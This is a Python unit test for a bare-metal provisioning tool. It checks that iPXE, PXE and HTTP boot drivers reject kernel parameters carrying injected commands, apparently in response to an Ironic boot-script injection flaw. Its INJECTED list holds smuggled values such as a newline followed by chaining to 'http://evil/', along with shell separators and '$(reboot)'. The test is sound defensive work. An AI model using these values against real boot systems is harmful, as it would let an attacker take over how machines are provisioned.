"""Ironic CVE-2026-46447: `kernel_append_params` added lines to the boot script. Ours takes words that
mean nothing to iPXE, PXELINUX and GRUB, and refuses everything else."""

import pytest
from tests.baremetal_task import MemoryTask, a_node, a_port
from tests.unit.baremetal_agent.rooms import SomeImages, SomeNetworks

from bessemer.baremetal.domain.node import InterfaceKind
from bessemer.baremetal.domain.provision.work import Failed
from bessemer.baremetal.drivers.ipxe.boot import IpxeBoot
from bessemer.baremetal.drivers.none.network import NoopNetwork
from bessemer.baremetal.drivers.pxe.boot import HttpBoot, HttpIpxeBoot, PxeBoot
from bessemer.baremetal.settings import BareMetalSettings

INJECTED = (
    "quiet\nchain http://evil/",
    "quiet\rshell",
    "${net0/mac}",
    "a && shell",
    "a; shell",
    "a || exit",
    "it's",
    'a="b',
    "a\\\nb",
    "$(reboot)",
    "\x00",
)


@pytest.mark.parametrize("text", INJECTED)
@pytest.mark.parametrize("boot", [IpxeBoot, PxeBoot, HttpBoot, HttpIpxeBoot])
async def test_kernel_parameters_cannot_add_a_command(tmp_path, boot, text):
    for name in ("kernel", "initramfs"):
        (tmp_path / name).write_bytes(b"x")
    settings = BareMetalSettings(
        deploy_kernel=str(tmp_path / "kernel"), deploy_ramdisk=str(tmp_path / "initramfs")
    )
    networks = SomeNetworks().with_port("v", "provisioning")
    node = a_node(driver_info={"kernel_append_params": text})
    nic = a_port(node, internal_info={"provisioning_vif_port_id": "v"})
    task = MemoryTask(node, (nic,), plugins={InterfaceKind.NETWORK: NoopNetwork()})
    plugin = boot(SomeImages(), networks, settings)
    outcome = await plugin.run_step("prepare_ramdisk", task, {"purpose": "provisioning"})
    assert isinstance(outcome, Failed)
    assert "boot_config" not in task.node.driver_internal_info
